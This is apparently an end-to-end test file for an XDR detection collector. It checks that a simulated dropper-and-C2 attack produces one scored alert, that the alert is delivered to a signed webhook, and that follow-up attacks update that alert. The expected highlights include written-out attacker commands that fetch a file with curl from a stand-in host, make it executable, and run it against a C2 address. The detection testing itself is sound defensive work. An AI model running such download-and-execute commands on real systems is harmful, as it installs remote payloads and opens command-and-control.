// Detection in the real collector process: a raw agent streams an attack over the real TLS
// WebSocket; the collector (with --rules and a webhook) records the OATs and exactly one alert
// with its highlights and score, pushes it signed to a local webhook, and a later step of the
// same attack updates that alert instead of making another. `rules check` lints a folder.
import { writeFileSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyWebhook } from '../../collector/src/detection/outbound/webhook-sink.js';
import { attackEvents } from '../../collector/src/detection/alerts/test-attack.js';
import { attackWireEvents } from './attack-events.js';
import { BIN, ROOT, api, run, runOk, startCollector, tempDir, waitFor, type CollectorProcess } from './harness.js';
import { enrollRaw, helloRaw, type RawAgent } from './raw-agent.js';

const SECRET = 'e2e-webhook-secret-0123456789';
let c: CollectorProcess;
let agent: RawAgent;
let hook: Server;
const deliveries: Array<{ headers: IncomingMessage['headers']; body: string }> = [];

beforeAll(async () => {
  hook = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (d) => chunks.push(d));
    req.on('end', () => { deliveries.push({ headers: req.headers, body: Buffer.concat(chunks).toString() }); res.end(); });
  });
  await new Promise<void>((r) => hook.listen(0, '127.0.0.1', r));
  const dir = tempDir('det');
  const secretFile = join(dir, 'hook.secret');
  writeFileSync(secretFile, SECRET, { mode: 0o600 });
  c = await startCollector(dir, [
    '--rules', join(ROOT, 'test/golden/rules'),
    '--webhook', `http://127.0.0.1:${(hook.address() as AddressInfo).port}/xdr`, '--webhook-secret-file', secretFile,
  ]);
  const cert = readFileSync(join(c.dataDir, 'tls', 'collector.crt'), 'utf8');
  const token = JSON.parse(await runOk(BIN.collector, ['enroll-token', 'create', '--data', c.dataDir, '--json'])).token;
  const id = await enrollRaw(c.agentUrl, cert, token, 'web7');
  agent = await helloRaw(c.agentUrl, cert, id, 'web7');
});

afterAll(async () => {
  agent?.close();
  await c?.stop();
  hook?.close();
});

async function sendBatch(seq: number, events: ReturnType<typeof attackWireEvents>): Promise<void> {
  agent.send({ batch: { seq, events } });
  const ack = await agent.next(15_000);
  expect(ack.body).toBe('ack');
  expect(Number(ack.ack!.seq)).toBe(seq);
}

describe('detection end to end', () => {
  it('an attack makes OATs and exactly one alert with highlights and score, pushed to the webhook', async () => {
    const t0 = Date.now();
    const events = attackWireEvents(4100, t0);
    // the attack arrives in two batches, as an agent would send it
    await sendBatch(1, events.slice(0, 2));
    await sendBatch(2, events.slice(2));

    const alerts = await waitFor('the alert', async () => {
      const r = await api(c, '/api/v1/alerts?model=m-dropper-c2');
      return r.body.alerts?.length ? r.body.alerts : undefined;
    }, 20_000);
    expect(alerts).toHaveLength(1);
    // one attack, one alert: the built-in models that recognised the same attack joined it
    expect((await api(c, '/api/v1/alerts?host=host-web7')).body.alerts.map((x: { id: string }) => x.id)).toEqual([alerts[0].id]);
    const a = (await api(c, `/api/v1/alerts/${alerts[0].id}`)).body;
    expect(a).toMatchObject({ status: 'new', level: 'critical', scope: { hosts: [{ id: 'host-web7', name: 'web7' }], users: ['deploy'] } });
    expect(a.models).toEqual(expect.arrayContaining([expect.objectContaining({ id: 'm-dropper-c2', title: 'Dropper followed by command and control', firings: 1 })]));
    expect(a.firings).toBe(a.models.reduce((n: number, m: { firings: number }) => n + m.firings, 0));
    // the built-in content may add OATs on the same events: check the formula, not a constant
    const p = a.score_parts;
    expect(p).toMatchObject({ base: 85, criticality: 'medium', factor: 1 });
    expect(p.oat_points).toBeGreaterThanOrEqual(8);
    expect(a.score).toBe(Math.round(Math.min(100, (p.base + p.oat_points + p.breadth) * p.factor)));
    expect(a.highlights.commands.map((x: { value: string }) => x.value)).toEqual(expect.arrayContaining([
      'curl -s -o /tmp/.x4100 http://203.0.113.5/x', 'chmod +x /tmp/.x4100', '/tmp/.x4100 -c 203.0.113.5',
    ]));
    expect(a.highlights.destination_ips).toEqual([{ value: '203.0.113.5', count: 1, event_ids: [expect.stringMatching(/:2:2$/)], pivot: 'source.ip:"203.0.113.5" or destination.ip:"203.0.113.5"' }]);
    expect(a.highlights.files.map((x: { value: string }) => x.value)).toContain('/tmp/.x4100');
    // every highlighted event id is an event the collector stored
    const curl = a.highlights.commands.find((x: { value: string }) => x.value.startsWith('curl'));
    const stored = (await api(c, `/api/v1/events?event.id=${encodeURIComponent(curl.event_ids[0])}`)).body.events;
    expect(stored[0]['process.command_line']).toBe(curl.value);

    const oats = (await api(c, '/api/v1/oat?host=host-web7&limit=1000')).body.oats.map((o: { rule_id: string }) => o.rule_id);
    expect(oats).toEqual(expect.arrayContaining(['g-download-tmp', 'g-chmod-tmp', 'g-exec-tmp', 'g-c2-from-tmp']));
    const c2 = (await api(c, '/api/v1/oat?technique=T1571&host=host-web7&rule_id=g-c2-from-tmp')).body.oats;
    expect(c2).toEqual([expect.objectContaining({ risk: 'high', tactics: ['TA0011'], process_entity_id: 's4100:4103' })]);

    const created = await waitFor('the webhook', async () => deliveries.find((d) => d.headers['x-xdr-event'] === 'alert.created' && JSON.parse(d.body).alert.id === a.id));
    expect(verifyWebhook(SECRET, String(created.headers['x-xdr-timestamp']), created.body, String(created.headers['x-xdr-signature']))).toBe(true);
    // the alert as pushed names the golden model once it has joined (created, or the update that followed)
    const pushed = await waitFor('a delivery naming m-dropper-c2', async () => deliveries.map((d) => JSON.parse(d.body))
      .find((b) => b.alert.id === a.id && b.alert.models.some((m: { id: string }) => m.id === 'm-dropper-c2')));
    expect(pushed.alert).toMatchObject({ id: a.id, score: a.score, models: a.models });
  });

  it('a later step of the same attack updates its alert; no second alert', async () => {
    const [before] = (await api(c, '/api/v1/alerts?model=m-dropper-c2')).body.alerts;
    await sendBatch(3, attackWireEvents(4200, Date.now(), '198.51.100.23'));
    const updated = await waitFor('the update', async () => {
      const r = await api(c, `/api/v1/alerts/${before.id}`);
      return r.body.models.find((m: { id: string }) => m.id === 'm-dropper-c2')?.firings === 2 ? r.body : undefined;
    }, 20_000);
    expect(updated.highlights.destination_ips.map((x: { value: string }) => x.value)).toEqual(['203.0.113.5', '198.51.100.23']);
    // the golden model's evidence of both attacks (4 events each), and perhaps the bash session of the built-in models
    expect(updated.event_ids.length).toBeGreaterThanOrEqual(8);
    expect(updated.event_ids.length).toBe(new Set(updated.event_ids).size);
    expect((await api(c, '/api/v1/alerts?model=m-dropper-c2')).body.alerts).toHaveLength(1);
    await waitFor('the update webhook', async () => deliveries.some((d) => d.headers['x-xdr-event'] === 'alert.updated' && JSON.parse(d.body).alert.id === before.id));
    const metrics = (await api(c, '/metrics')).body as string;
    expect(metrics).toMatch(/xdr_alerts_updated_total [1-9]/);
    expect(metrics).toMatch(/xdr_detection_shed_events_total 0/);
  });

  it('xdrctl: alerts table, alert show with highlights, detections test dry run', async () => {
    const env = { XDR_URL: c.apiUrl, XDR_TOKEN: c.adminToken!, XDR_FINGERPRINT: c.fingerprint };
    const table = await runOk(BIN.xdrctl, ['alerts'], env);
    expect(table.split('\n')[0]).toMatch(/^SCORE\s+STATUS\s+TITLE/);
    const listed = JSON.parse(await runOk(BIN.xdrctl, ['alerts', '--model', 'm-dropper-c2', '--json'], env)).alerts[0];
    expect(table.split('\n')[0]).toMatch(/TITLE\s+MODELS\s+HOSTS/);
    const row = table.split('\n').find((l) => l.endsWith(listed.id))!;
    expect(row).toContain(listed.title.slice(0, 40));
    expect(row).toMatch(new RegExp(`\\s${listed.models.length}\\s+web7\\s`));
    const show = await runOk(BIN.xdrctl, ['alert', 'show', listed.id], env);
    expect(show).toContain('chmod +x /tmp/.x4100');
    expect(show).toMatch(/models\n(.*\n)*\s+Dropper followed by command and control \[critical\] \d+ firing\(s\)\s+m-dropper-c2/);
    const dir = tempDir('dry');
    const file = join(dir, 'events.jsonl');
    writeFileSync(file, attackEvents({ session: 9, t0: Date.now(), host: 'lab' }).map((e) => JSON.stringify(e)).join('\n'));
    const dry = await runOk(BIN.xdrctl, ['detections', 'test', '--rules', join(ROOT, 'test/golden/rules'), '--only-rules', 'yes', file], env);
    expect(dry).toMatch(/score \d+\s+Dropper followed by command and control/);
    const oatsBefore = (await api(c, '/api/v1/oat?host=lab')).body.oats.length;
    expect(oatsBefore).toBe(0);
  });

  it('rules check lints a folder with file:line:col and exits 1 on errors', async () => {
    const dir = tempDir('lint');
    writeFileSync(join(dir, 'a.yml'), 'title: dup\nid: g-exec-tmp\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s\n');
    writeFileSync(join(dir, 'b.yml'), 'title: broken\nid: b1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s and nope\n');
    const bad = await run(BIN.collector, ['rules', 'check', dir]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(new RegExp(`${join(dir, 'b.yml').replace(/\//g, '\\/')}:\\d+:\\d+: E_CONDITION \\(error\\)`));
    const good = await run(BIN.collector, ['rules', 'check', join(ROOT, 'test/golden/rules')]);
    expect(good.code).toBe(0);
    expect(good.stdout).toContain('4 filter(s), 2 rule(s), 1 model(s) load; 0 error(s)');
  });
});
